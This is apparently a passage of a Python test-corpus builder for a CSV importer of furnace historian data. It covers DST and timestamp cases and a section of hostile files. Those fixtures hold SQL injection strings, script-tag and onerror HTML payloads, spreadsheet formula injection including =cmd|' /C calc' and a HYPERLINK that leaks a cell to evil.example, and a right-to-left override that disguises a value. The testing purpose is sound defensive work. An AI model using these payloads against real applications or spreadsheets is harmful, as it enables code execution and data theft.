        checks = {"2": utc_iso(berlin(times[0])), str(n + 1): utc_iso(berlin(times[-1]))}
        if name == "ts_mdy_ampm.csv":
            for k, t in enumerate(times):
                if t.hour in (0, 12):
                    checks[str(k + 2)] = utc_iso(berlin(t))
        c.write(name, join_lines(lines).encode("utf-8"))
        c.add(entry(name, args=TZ_ARGS,
                    expect=ok(n, columns=4, time_column=th, rejected_lines=[], utc_at_lines=checks,
                              types={th: "timestamp", "Furnace temperature": "numeric", "Line speed": "numeric", "State": "categorical"},
                              detected={"timestamp_format": tf}),
                    why=why))

    # offsets across the spring DST change: absolute, no DST note needed
    lines = [csv_line(["Timestamp", "Furnace temperature [°C]", "State"])]
    checks = {}
    rnd = random.Random(41)
    t_utc = dt.datetime(2026, 3, 28, 23, 0, tzinfo=UTC)
    for k in range(12):
        tu = t_utc + dt.timedelta(minutes=20 * k)
        loc = tu.astimezone(BERLIN)
        lines.append(csv_line([loc.isoformat(), fmt(184 + rnd.uniform(-2, 2), 1), ["RUN", "STOP", "MAINT"][k % 3]]))
        checks[str(k + 2)] = utc_iso(tu)
    c.write("ts_iso_offset_across_dst.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("ts_iso_offset_across_dst.csv", args=TZ_ARGS,
                expect=ok(12, columns=3, time_column="Timestamp", rejected_lines=[], utc_at_lines=checks),
                why="Offsets switch from +01:00 to +02:00 during the night of 2026-03-29: absolute times, strictly 20 min apart in UTC."))


def build_dst_features(c: Corpus) -> None:
    # spring: a correct local-time historian skips 02:00-02:59
    lines = [csv_line(["Zeitstempel", "Ofentemperatur [°C]", "Energie [kWh]", "Status"], ";")]
    checks = {}
    rnd = random.Random(51)
    t = dt.datetime(2026, 3, 29, 0, 0)
    k = 0
    while t <= dt.datetime(2026, 3, 29, 5, 0):
        if t.hour != 2:
            lines.append(csv_line([t.strftime("%d.%m.%Y %H:%M"), fmt(183 + rnd.uniform(-2, 2), 1, ","),
                                   fmt(8.1 + rnd.uniform(-0.5, 0.5), 2, ","), ["Produktion", "Produktion", "Stillstand", "Wartung"][k % 4]], ";"))
            checks[str(len(lines))] = utc_iso(berlin(t))
            k += 1
        t += dt.timedelta(minutes=15)
    n = len(lines) - 1
    c.write("dst_spring_berlin.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("dst_spring_berlin.csv", args=TZ_ARGS,
                expect=ok(n, columns=4, time_column="Zeitstempel", rejected_lines=[],
                          utc_at_lines={k2: v for k2, v in checks.items() if k2 in ("2", "9", "10", str(n + 1))}),
                why="Local-time historian across the spring change in Europe/Berlin: 01:45 is followed by 03:00, 15 real minutes later."))

    # autumn: the repeated hour appears twice, clock goes back after 02:45
    lines = [csv_line(["Timestamp", "Furnace temperature [°C]", "Energy [kWh]", "State"])]
    checks = {}
    rnd = random.Random(52)
    seq = []
    t = dt.datetime(2026, 10, 25, 0, 0)
    while t < dt.datetime(2026, 10, 25, 3, 0):
        seq.append((t, 0))
        t += dt.timedelta(minutes=15)
    for m in range(0, 60, 15):
        seq.append((dt.datetime(2026, 10, 25, 2, m), 1))
    t = dt.datetime(2026, 10, 25, 3, 0)
    while t <= dt.datetime(2026, 10, 25, 4, 0):
        seq.append((t, 0))
        t += dt.timedelta(minutes=15)
    for k, (t, fold) in enumerate(seq):
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), fmt(183 + rnd.uniform(-2, 2), 1),
                               fmt(8.1 + rnd.uniform(-0.5, 0.5), 2), ["RUN", "RUN", "STOP", "MAINT"][k % 4]]))
        checks[str(k + 2)] = utc_iso(berlin(t, fold))
    n = len(seq)
    c.write("dst_autumn_berlin.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("dst_autumn_berlin.csv", args=TZ_ARGS,
                expect=ok(n, columns=4, time_column="Timestamp", rejected_lines=[], notes_contain=["DST"],
                          utc_at_lines=checks),
                why="Local-time historian across the autumn change: 02:00-02:45 appear twice; the second pass (after the clock goes back) is standard time. Resolved by row order and noted."))


def build_historian_set(c: Corpus) -> None:
    jan = historian_rows_en(dt.datetime(2026, 1, 25, 0, 0), 168, seed=61)
    feb = historian_rows_en(dt.datetime(2026, 2, 1, 0, 0), 168, seed=62, k0=168)
    c.write("historian_2026-01.csv", join_lines([csv_line(EN_HEADERS)] + [csv_line(r) for r in jan]).encode("utf-8"))
    c.write("historian_2026-02.csv", join_lines([csv_line(EN_HEADERS)] + [csv_line(r) for r in feb]).encode("utf-8"))
    hist = {r[0]: r for r in jan + feb}

    # manual core-temperature checks, once a day, typed into German Excel
    rnd = random.Random(63)
    m_lines = [csv_line(["Prüfzeitpunkt", "Kerntemperatur [°C]", "Prüfer", "Bemerkung"], ";")]
    checks = []
    day = dt.date(2026, 1, 25)
    for k in range(14):
        hh = rnd.choice([9, 10, 11, 13, 14])
        mm = rnd.choice([7, 12, 18, 23, 41, 47, 52])
        t = dt.datetime.combine(day + dt.timedelta(days=k), dt.time(hh, mm))
        core = 171.0 + rnd.uniform(-6, 6)
        remark = {2: "Nachmessung", 6: "Thermoelement 2 getauscht", 11: "Charge gewechselt"}.get(k, "")
        m_lines.append(csv_line([t.strftime("%d.%m.%Y %H:%M"), fmt(core, 1, ","), ["JW", "MK", "AS"][k % 3], remark], ";"))
        checks.append((t, round(core, 1)))
    c.write("manual_checks.csv", join_lines(m_lines).encode("utf-8"))

    # batch list from the MES
    b_lines = [csv_line(["Order no.", "Material grade", "Start", "End", "Planned parts"])]
    starts = [dt.datetime(2026, 1, 25, 0, 0), dt.datetime(2026, 1, 27, 14, 0), dt.datetime(2026, 1, 29, 22, 0),
              dt.datetime(2026, 2, 1, 6, 0), dt.datetime(2026, 2, 3, 14, 0), dt.datetime(2026, 2, 5, 6, 0),
              dt.datetime(2026, 2, 6, 22, 0)]
    grades = ["EP-210", "EP-230", "PE-180", "EP-210", "PE-180", "EP-230", "EP-210"]
    for i, s in enumerate(starts):
        e = starts[i + 1] if i + 1 < len(starts) else dt.datetime(2026, 2, 8, 0, 0)
        b_lines.append(csv_line([f"B26-{117 + i:04d}", grades[i], s.strftime("%Y-%m-%d %H:%M"), e.strftime("%Y-%m-%d %H:%M"),
                                 str(int((e - s).total_seconds() / 3600 * 380))]))
    c.write("batches.csv", join_lines(b_lines).encode("utf-8"))

    c.add(entry("historian_2026-01.csv", args=TZ_ARGS,
                expect=ok(168, columns=10, time_column="Timestamp", types=EN_TYPES, roles=EN_ROLES, rejected_lines=[]),
                why="One month-file of an hourly historian (English headers), on its own."))
    c.add(entry(files=["historian_2026-01.csv", "historian_2026-02.csv"], args=TZ_ARGS,
                expect=ok(336, columns=10, time_column="Timestamp", types=EN_TYPES, roles=EN_ROLES, sources=1, rejected_lines=[]),
                why="A historian split into two monthly files with identical headers: appended into one source of 336 rows."))
    c.add(entry("manual_checks.csv", args=TZ_ARGS,
                expect=ok(14, columns=4, time_column="Prüfzeitpunkt",
                          types={"Prüfzeitpunkt": "timestamp", "Kerntemperatur": "numeric", "Prüfer": "categorical", "Bemerkung": "categorical"},
                          roles={"Kerntemperatur": "core_temp_check"},
                          detected={"delimiter": ";", "decimal_mark": ",", "timestamp_format": "dmy_dot"}),
                why="Sparse manual core-temperature checks (one a day, typed in German Excel), on their own."))
    c.add(entry("batches.csv", args=TZ_ARGS,
                expect=ok(7, columns=5, time_column="Start",
                          types={"Order no.": "categorical", "Material grade": "categorical", "Start": "timestamp", "End": "timestamp", "Planned parts": "numeric"},
                          roles={"Material grade": "material"}),
                why="Batch list from the MES (order, material grade, start, end); the first timestamp column (Start) is the time axis."))

    # alignment checks: manual check lands on the nearest hourly row (within 30 min),
    # material is as-of the last batch start
    aligned = []
    for t, core in checks[:3] + checks[-2:]:
        near = (t + dt.timedelta(minutes=30)).replace(minute=0)
        assert abs((near - t).total_seconds()) < 30 * 60 and near.strftime("%Y-%m-%d %H:%M:%S") in hist
        aligned.append({"time_utc": utc_iso(berlin(near)), "column": "Kerntemperatur", "value": core})
    for probe in [dt.datetime(2026, 1, 26, 12, 0), dt.datetime(2026, 1, 28, 3, 0), dt.datetime(2026, 2, 2, 18, 0),
                  dt.datetime(2026, 2, 7, 23, 0)]:
        g = [grades[i] for i, s in enumerate(starts) if s <= probe][-1]
        aligned.append({"time_utc": utc_iso(berlin(probe)), "column": "Material grade", "value": g})
    c.add(entry(files=["historian_2026-01.csv", "historian_2026-02.csv", "manual_checks.csv", "batches.csv"], args=TZ_ARGS,
                expect=ok(336 + 14 + 7, time_column="Timestamp", sources=3, rejected_lines=[],
                          roles={"Furnace temperature": "furnace_temp", "Kerntemperatur": "core_temp_check", "Material grade": "material"},
                          aligned=aligned),
                why="The whole study: two historian months appended, manual checks and batch list as further sources aligned by time (nearest row within half a step; batch grade as-of)."))


# ========================================================================================
# (B) hostile files
# ========================================================================================


def hostile_csv(rows, header=HOSTILE_HEADERS, delim=",", eol="\n", final_eol=True):
    return join_lines([csv_line(header, delim)] + [csv_line(r, delim) for r in rows], eol, final_eol)


def make_png() -> bytes:
    w, h = 16, 16
    raw = b"".join(b"\x00" + b"".join(bytes((x * 16, y * 16, 128)) for x in range(w)) for y in range(h))

    def chunk(tag, data):
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def make_xlsx() -> bytes:
    buf = io.BytesIO()
    files = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Export" sheetId="1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-8"?><worksheet><sheetData>' + "".join(
            f'<row r="{i}"><c r="A{i}"><v>{46036 + i / 96:.6f}</v></c><c r="B{i}"><v>{184 + (i % 7) * 0.3:.1f}</v></c></row>' for i in range(1, 200)) + "</sheetData></worksheet>",
    }
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 14, 8, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text)
    return buf.getvalue()


def build_hostile(c: Corpus) -> None:
    H = HOSTILE_HEADERS

    def add_ok(name, n, rejected_lines, why, types=HOSTILE_TYPES, columns=5, time_column="Zeitstempel", args=TZ_ARGS, **more):
        rl = sorted(rejected_lines)
        c.add(entry(name, args=args,
                    expect=ok(n - len(rl), len(rl), columns=columns, time_column=time_column, rejected_lines=rl,
                              **({"types": types} if types else {}), **more),
                    why=why))

    # ---- whole-file failures ----------------------------------------------------------
    c.add(entry("does_not_exist.csv", expect=fail3("does_not_exist.csv"),
                why="Missing file (intentionally not in the folder): exit 3 naming the file."))
    c.write("empty.csv", b"")
    c.add(entry("empty.csv", expect=fail3("empty.csv"), why="0 bytes."))
    c.write("whitespace_only.csv", b"  \n\t\n   \r\n\n \t \n")
    c.add(entry("whitespace_only.csv", expect=fail3("whitespace_only.csv"), why="Only spaces, tabs and line ends."))
    c.write("bom_only.csv", b"\xef\xbb\xbf")
    c.add(entry("bom_only.csv", expect=fail3("bom_only.csv"), why="Just a UTF-8 BOM (Excel 'save as CSV UTF-8' of an empty sheet)."))
    c.write("header_only.csv", (csv_line(H) + "\n").encode("utf-8"))
    c.add(entry("header_only.csv", expect=fail3("header_only.csv"), why="Header but no data rows."))
    c.write("header_only_blank_lines.csv", (csv_line(H) + "\r\n\r\n\r\n").encode("utf-8"))
    c.add(entry("header_only_blank_lines.csv", expect=fail3("header_only_blank_lines.csv"),
                why="Header followed only by blank lines: still no data rows."))
    c.write("historian_error_message.csv", b"No data available for the requested time range.\n")
    c.add(entry("historian_error_message.csv", expect=fail3("historian_error_message.csv"),
                why="A historian wrote its error message into the export file: one line, no data rows."))
    c.write("png_image.csv", make_png())
    c.add(entry("png_image.csv", expect=fail3("png_image.csv"), why="A PNG image with a .csv name: binary."))
    rb = bytearray(random.Random(1234).randbytes(8192))
    rb[0:2] = b"\x5a\x93"  # make sure it starts with no BOM and no gzip magic
    c.write("random_bytes.csv", bytes(rb))
    c.add(entry("random_bytes.csv", expect=fail3("random_bytes.csv"), why="8 KiB of random bytes."))
    c.write("xlsx_renamed.csv", make_xlsx())
    c.add(entry("xlsx_renamed.csv", expect=fail3("xlsx_renamed.csv"),
                why="An Excel workbook (.xlsx = ZIP) renamed to .csv: binary, not a table."))
    full = hostile_csv(hostile_rows(400, seed=71)).encode("utf-8")
    gz = gzip.compress(full, compresslevel=6, mtime=0)
    c.write("gzip_truncated.csv.gz", gz[: len(gz) * 6 // 10])
    c.add(entry("gzip_truncated.csv.gz", expect=fail3("gzip_truncated.csv.gz"),
                why="Gzip cut at 60 % (interrupted download): the decompressor fails, exit 3, no partial import."))
    c.write("delimiters_only_file.csv", ("," * 5000 + "\n").encode("ascii"))
    c.add(entry("delimiters_only_file.csv", expect=fail3("delimiters_only_file.csv"),
                why="A single line of 5000 commas: a header of empty names and no data rows."))

    # every data row rejected: row i has a text cell in numeric column i, so each column
    # stays >= 90 % numeric (19 of 20) but no row survives
    head = ["Zeitstempel"] + [f"TC{i:02d} [°C]" for i in range(1, 21)]
    lines = [csv_line(head)]
    rnd = random.Random(72)
    for r in range(20):
        t = dt.datetime(2026, 1, 14, 6, 0) + dt.timedelta(minutes=r)
        vals = [fmt(180 + rnd.uniform(-3, 3), 1) for _ in range(20)]
        vals[r] = "Bad Input"
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S")] + vals))
    c.write("all_rows_rejected.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("all_rows_rejected.csv", args=TZ_ARGS, expect=fail3("all_rows_rejected.csv"),
                why="20 thermocouples, each reads 'Bad Input' in exactly one row (each column is still 95 % numeric): every row is rejected, no usable rows -> exit 3."))

    # ---- generated huge files --------------------------------------------------------------
    for spec, expect, why in huge_specs():
        extra = {"slow": True} if spec["kind"] in ("tall", "long_line") else {}
        c.add(entry(generate=spec, args=TZ_ARGS if expect.get("exit") == 0 else None, expect=expect, why=why, **extra))

    # ---- NUL bytes ---------------------------------------------------------------------------
    rows = hostile_rows(30, seed=73)
    rows[10][4] = "Produk\x00\x00\x00tion"   # line 12
    rows[23][1] = "18\x004.2"                # line 25
    c.write("nul_bytes_in_line.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("nul_bytes_in_line.csv", 30, [12, 25], "Two lines of an otherwise normal text file contain NUL bytes: those rows are rejected.")

    # ---- quotes ------------------------------------------------------------------------------
    QH = H + ["Bemerkung"]
    QT = dict(HOSTILE_TYPES, Bemerkung="categorical")

    def qrows(n, seed):
        rows = hostile_rows(n, seed=seed)
        for k, r in enumerate(rows):
            r.append("Schichtwechsel" if k % 6 == 2 else "")
        return rows

    rows = qrows(20, 74)
    text = hostile_csv(rows[:-1], QH)
    last = rows[-1]
    text += ",".join(last[:5]) + ',"Ofen 2 Tür klemmt\n'
    c.write("quote_unterminated_at_end.csv", text.encode("utf-8"))
    add_ok("quote_unterminated_at_end.csv", 20, [21], "The last row opens a quote that never closes: that row (line 21) is rejected, the 19 before it are imported.",
           types=QT, columns=6)

    rows = qrows(30, 75)
    lines = [csv_line(QH)]
    for k, r in enumerate(rows):
        if k == 9:  # line 11
            lines.append(",".join(r[:5]) + ',"Brenner 3 aus, siehe Schichtbuch')
        else:
            lines.append(",".join(r))
    c.write("quote_unterminated_middle.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("quote_unterminated_middle.csv", args=TZ_ARGS,
                expect=ok(29, 1, columns=6, time_column="Zeitstempel", rejected_lines=[11], types=QT),
                why="Line 11 opens a quote that no later line closes: the importer rejects line 11 alone and resumes on line 12, so one stray quote cannot swallow the 20 good rows after it."))

    rows = qrows(30, 76)
    lines = [csv_line(QH)]
    for k, r in enumerate(rows):
        ln = k + 2
        if ln == 11:
            lines.append(",".join(r[:5]) + ',"Ofen zu heiß')
        elif ln == 14:
            lines.append(r[0] + "," + r[1] + '",' + ",".join(r[2:]))
        else:
            lines.append(",".join(r))
    c.write("quote_stray_spans_lines.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("quote_stray_spans_lines.csv", args=TZ_ARGS,
                expect=ok(26, 1, columns=6, time_column="Zeitstempel", rejected_lines=[11], types=QT),
                why="A quote opened on line 11 is closed by a stray quote on line 14: lines 11-14 form one record with 10 fields, rejected as ragged at line 11; 26 rows remain."))

    # line numbers after multi-line fields
    rows = qrows(20, 77)
    rows[2][5] = "Zeile 1\nZeile 2\nZeile 3"        # record at line 4 spans 4-6
    rows[5][5] = "Bemerkung mit\r\nCRLF innen"      # record at line 9 spans 9-10
    lines = [csv_line(QH)] + [csv_line(r) for r in rows]
    # row index 10 -> physical line 1 + 10 + 1 + 2 + 1 = 15: make it ragged
    bad = lines.pop(11)
    lines.insert(11, bad + ",überzählig")
    c.write("line_numbers_after_multiline_fields.csv", join_lines(lines).encode("utf-8"))
    add_ok("line_numbers_after_multiline_fields.csv", 20, [15],
           "Two quoted fields span 3 extra physical lines; the ragged row after them must be reported at physical line 15, not record 12.",
           types=QT, columns=6)

    # ---- delimiters ----------------------------------------------------------------------------
    rows = hostile_rows(30, seed=78, dec=",", ts=lambda t: t.strftime("%d.%m.%Y %H:%M:%S"))
    lines = [csv_line(H, ";")]
    for k, r in enumerate(rows):
        ln = k + 2
        if ln in (8, 20):
            lines.append(",".join([r[0]] + [x.replace(",", ".") for x in r[1:]]))
        else:
            lines.append(csv_line(r, ";"))
    c.write("mixed_delimiters.csv", join_lines(lines).encode("utf-8"))
    add_ok("mixed_delimiters.csv", 30, [8, 20],
           "Semicolon/decimal-comma file where lines 8 and 20 were written with commas and decimal points (one field by ';'): rejected as ragged.",
           detected={"delimiter": ";", "decimal_mark": ","})

    rows = hostile_rows(30, seed=79)
    lines = [csv_line(H)]
    for k, r in enumerate(rows):
        ln = k + 2
        lines.append(csv_line(r[:3]) if ln in (9, 17) else csv_line(r))
    c.write("ragged_short_rows.csv", join_lines(lines).encode("utf-8"))
    add_ok("ragged_short_rows.csv", 30, [9, 17], "Lines 9 and 17 have 3 of 5 fields.")

    rows = hostile_rows(30, seed=80)
    lines = [csv_line(H)]
    for k, r in enumerate(rows):
        ln = k + 2
        lines.append(csv_line(r + ["0.0", "x"]) if ln in (6, 22) else csv_line(r))
    c.write("ragged_long_rows.csv", join_lines(lines).encode("utf-8"))
    add_ok("ragged_long_rows.csv", 30, [6, 22], "Lines 6 and 22 have 7 fields instead of 5.")

    rows = hostile_rows(30, seed=81)
    lines = [csv_line(H)] + [csv_line(r) for r in rows]
    lines[13] = "," * 5000
    c.write("delimiters_only_line.csv", join_lines(lines).encode("utf-8"))
    add_ok("delimiters_only_line.csv", 30, [14], "Line 14 is 5000 commas and nothing else: 5001 empty fields, rejected as ragged.")

    rows = hostile_rows(30, seed=82)
    lines = [csv_line(H)]
    for k, r in enumerate(rows):
        ln = k + 2
        if ln == 18:
            r = r[:3] + ["1,234.5"] + r[4:]
        lines.append(csv_line(r))
    c.write("thousands_separator.csv", join_lines(lines).encode("utf-8"))
    add_ok("thousands_separator.csv", 30, [], "Line 18 has Energie \"1,234.5\" (quoted, thousands separator): 1234.5 in a column of decimal points; the column stays numeric and the row is kept.",
           values={"Energie": [1234.5 if k == 16 else float(r[3]) for k, r in enumerate(rows)]})

    rows = hostile_rows(30, seed=83, dec=",", ts=lambda t: t.strftime("%d.%m.%Y %H:%M"))
    c.write("excel_sep_line.csv", ("sep=;\n" + hostile_csv(rows, delim=";")).encode("utf-8"))
    add_ok("excel_sep_line.csv", 30, [], "Excel's 'sep=;' first line: skipped like a preamble line, header on line 2.",
           detected={"delimiter": ";", "decimal_mark": ",", "header_line": 2})

    rows = hostile_rows(25, seed=84)
    lines = [",".join('"' + h + '"' for h in H)] + [",".join('"' + f + '"' for f in r) for r in rows]
    c.write("quoted_everything.csv", join_lines(lines, "\r\n").encode("utf-8"))
    add_ok("quoted_everything.csv", 25, [], "Every field quoted, numbers included (some historians and Excel exports do this): numbers stay numeric.")

    rows = hostile_rows(20, seed=85)
    c.write("single_column.csv", join_lines(["Ofentemperatur [°C]"] + [r[1] for r in rows]).encode("utf-8"))
    add_ok("single_column.csv", 20, [], "One column only: no delimiter occurs anywhere.", types={"Ofentemperatur": "numeric"},
           columns=1, time_column=None, args=None)

    # ---- names ---------------------------------------------------------------------------------
    def names_file(name, header, expected_names, why, seed, types=None):
        rnd = random.Random(seed)
        lines = [csv_line(header)]
        for k in range(20):
            t = dt.datetime(2026, 1, 14, 6, 0) + dt.timedelta(minutes=15 * k)
            vals = [fmt(180 + i + rnd.uniform(-2, 2), 1) for i in range(len(header) - 2)]
            lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S")] + vals + [["RUN", "STOP", "MAINT"][k % 3]]))
        c.write(name, join_lines(lines).encode("utf-8"))
        exp = ok(20, columns=len(header), time_column=expected_names[0], rejected_lines=[], column_names=expected_names)
        if types:
            exp["types"] = types
        c.add(entry(name, args=TZ_ARGS, expect=exp, why=why))

    names_file("duplicate_column_names.csv", ["Zeitstempel", "Temperatur", "Temperatur", "Druck", "Temperatur", "Status"],
               ["Zeitstempel", "Temperatur", "Temperatur (2)", "Druck", "Temperatur (3)", "Status"],
               "Three columns called 'Temperatur': the later ones get ' (2)' and ' (3)'.", 86,
               types={"Temperatur": "numeric", "Temperatur (2)": "numeric", "Temperatur (3)": "numeric"})
    names_file("empty_column_names.csv", ["Zeitstempel", "", "Ofentemperatur [°C]", "", "Status"],
               ["Zeitstempel", "column_2", "Ofentemperatur", "column_4", "Status"],
               "Empty header cells at positions 2 and 4 become column_2 and column_4.", 87,
               types={"column_2": "numeric", "column_4": "numeric"})
    sql_names = ['"; DROP TABLE x; --', "Robert'); DROP TABLE dataset;--", "x' OR '1'='1", "Temp`; DELETE FROM columns; --"]
    names_file("sql_column_names.csv", ["Zeitstempel"] + sql_names + ["Status"], ["Zeitstempel"] + sql_names + ["Status"],
               "Column names that look like SQL are stored verbatim (bound parameters, quoted identifiers); the project keeps working.", 88)
    html_names = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "</td></tr><b>Temp</b>", "&lt;b&gt; &amp;"]
    names_file("html_column_names.csv", ["Zeitstempel"] + html_names + ["Status"], ["Zeitstempel"] + html_names + ["Status"],
               "Column names that look like HTML are imported verbatim (and must be escaped by the HTML report).", 89)
    uni = ["时间", "温度 [°C]", "Температура печи [°C]", "🔥 Ofen [°C]", "Скорость [m/min]", "状态"]
    rnd = random.Random(90)
    lines = [csv_line(uni)]
    for k in range(20):
        t = dt.datetime(2026, 1, 14, 6, 0) + dt.timedelta(minutes=15 * k)
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), fmt(184 + rnd.uniform(-2, 2), 1), fmt(183 + rnd.uniform(-2, 2), 1),
                               fmt(185 + rnd.uniform(-2, 2), 1), fmt(3.1 + 0.05 * (k % 3), 2), ["运行", "停机", "维护"][k % 3]]))
    c.write("unicode_column_names.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("unicode_column_names.csv", args=TZ_ARGS,
                expect=ok(20, columns=6, time_column="时间", rejected_lines=[],
                          column_names=["时间", "温度", "Температура печи", "🔥 Ofen", "Скорость", "状态"],
                          units={"温度": "°C", "Температура печи": "°C", "🔥 Ofen": "°C", "Скорость": "m/min"},
                          levels_contain={"状态": ["运行", "停机", "维护"]}),
                why="Chinese, Cyrillic and emoji (4-byte UTF-8) column names and values."))
    rtl = ["זמן", "درجة حرارة الفرن [°C]", "מהירות [m/min]", "מצב"]
    rnd = random.Random(91)
    lines = [csv_line(rtl)]
    states = ["פעיל", "עצור", "תחזוקה", "\u202eNUR", "تشغيل"]
    for k in range(20):
        t = dt.datetime(2026, 1, 14, 6, 0) + dt.timedelta(minutes=15 * k)
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), fmt(184 + rnd.uniform(-2, 2), 1), fmt(3.1 + 0.05 * (k % 3), 2), states[k % 5]]))
    c.write("rtl_text.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("rtl_text.csv", args=TZ_ARGS,
                expect=ok(20, columns=4, time_column="זמן", rejected_lines=[],
                          column_names=["זמן", "درجة حرارة الفرن", "מהירות", "מצב"],
                          levels_contain={"מצב": states}),
                why="Hebrew/Arabic (right-to-left) names and values, and a U+202E RIGHT-TO-LEFT OVERRIDE that makes 'NUR' display as 'RUN'."))

    rows = hostile_rows(20, seed=92)
    hh = [" Zeitstempel ", "Ofentemperatur [°C] ", "Bandgeschwindigkeit [m/min]", " Energie [kWh]", "Status "]
    c.write("header_padded_spaces.csv", hostile_csv(rows, header=hh).encode("utf-8"))
    add_ok("header_padded_spaces.csv", 20, [], "Header cells with leading/trailing spaces (gas_turbine 2015 quirk): names are trimmed.",
           column_names=["Zeitstempel", "Ofentemperatur", "Bandgeschwindigkeit", "Energie", "Status"])

    # ---- cell values ---------------------------------------------------------------------------
    rows = hostile_rows(20, seed=93)
    MH = H[:4] + ["Material"]
    inj = ["'; DROP TABLE dataset; --", "<script>alert('x')</script>", "Robert'); DROP TABLE columns;--", "EP-210", "EP-230",
           "<b onmouseover=alert(1)>PE-180</b>", "1; DELETE FROM sources"]
    for k, r in enumerate(rows):
        r[4] = inj[k % len(inj)]
    c.write("sql_html_in_values.csv", hostile_csv(rows, header=MH).encode("utf-8"))
    add_ok("sql_html_in_values.csv", 20, [], "SQL and HTML in categorical values: stored verbatim as levels.",
           types={"Material": "categorical"}, levels_contain={"Material": inj})

    rows = hostile_rows(20, seed=94)
    FH = H + ["Bemerkung"]
    formulas = ["=cmd|' /C calc'!A0", "@SUM(1)", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
                '=HYPERLINK("http://evil.example/?leak="&A1,"Details")', "=1+1", "@", "ok"]
    for k, r in enumerate(rows):
        r.append(formulas[k % len(formulas)])
    c.write("formula_injection.csv", hostile_csv(rows, header=FH).encode("utf-8"))
    add_ok("formula_injection.csv", 20, [], "Spreadsheet formula injection in a comment column (=cmd|..., @SUM, +cmd, -2+3+cmd, =HYPERLINK): plain text levels; an xlsx report must not turn them into formulas.",
           types={"Bemerkung": "categorical"}, columns=6, levels_contain={"Bemerkung": formulas})

    rows = hostile_rows(20, seed=95)
    ctrl = ["Produktion\x01", "Alarm\x07", "\x1b[31mRot\x1b[0m", "Back\x08space", "Del\x7f", "Vertical\x0btab",
            "Form\x0cfeed", "Line\u2028Sep", "Next\u0085Line", "Zero\u200bWidth"]
    for k, r in enumerate(rows):
        r.append(ctrl[k % len(ctrl)])
    c.write("control_characters.csv", hostile_csv(rows, header=FH).encode("utf-8"))
    add_ok("control_characters.csv", 20, [], "C0 controls (SOH, BEL, ESC sequences, BS), DEL, VT, FF, U+2028, U+0085, U+200B inside values: not line ends, not binary, imported.",
           types={"Bemerkung": "categorical"}, columns=6, levels_contain={"Bemerkung": ctrl})

    rows = hostile_rows(40, seed=96)
    rows[5][1] = "Bad Input"          # line 7
    rows[17][1] = "Comm Fail"         # line 19
    rows[28][3] = "I/O Timeout"       # line 30
    rows[33][2] = "Über"              # line 35
    c.write("non_numeric_in_numeric.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("non_numeric_in_numeric.csv", 40, [7, 19, 30, 35], "Historian quality strings in numeric columns (Bad Input, Comm Fail, I/O Timeout, Über): each such row is rejected; the columns stay numeric (>= 95 %).")

    rows = hostile_rows(40, seed=97)
    rows[3][1] = "#DIV/0!"    # 5
    rows[10][2] = "#VALUE!"   # 12
    rows[19][1] = "#REF!"     # 21
    rows[31][3] = "#WERT!"    # 33
    rows[36][2] = "#NAME?"    # 38
    rows[13][1] = "#N/A"      # 15 missing
    rows[25][3] = "#NV"       # 27 missing
    c.write("excel_error_values.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("excel_error_values.csv", 40, [], "Spreadsheet error values (#DIV/0!, #VALUE!, #REF!, #WERT!, #NAME?, #N/A, #NV) are failed formulas: the cell is missing, the rest of the row is kept, and a note counts them.",
           missing={"Ofentemperatur": 3, "Energie": 2}, notes_contain=["spreadsheet error"])

    rows = hostile_rows(40, seed=98)
    rows[2][1] = "NaN"        # 4 missing
    rows[7][3] = "NaN"        # 9 missing
    rows[12][1] = "inf"       # 14
    rows[20][3] = "Infinity"  # 22
    rows[28][1] = "-inf"      # 30
    rows[34][3] = "-Infinity"  # 36
    c.write("nan_inf.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("nan_inf.csv", 40, [14, 22, 30, 36], "NaN is a missing token; inf, Infinity, -inf, -Infinity are not finite numbers and reject their rows.",
           missing={"Ofentemperatur": 1, "Energie": 1})

    rows = hostile_rows(40, seed=99)
    rows[6][1] = "1e309"      # 8 overflow
    rows[14][3] = "-1e309"    # 16
    rows[22][1] = "1.2.3"     # 24
    rows[28][3] = "1e308"     # 30 fine (finite)
    c.write("number_overflow.csv", hostile_csv(rows).encode("utf-8"))
    add_ok("number_overflow.csv", 40, [8, 16, 24], "1e309 and -1e309 overflow to infinity (rejected), '1.2.3' is not a number (rejected), 1e308 is finite (imported).")

    # ---- timestamps ----------------------------------------------------------------------------
    rows = hostile_rows(30, seed=100)
    rows[8], rows[9], rows[10] = rows[10], rows[8], rows[9]
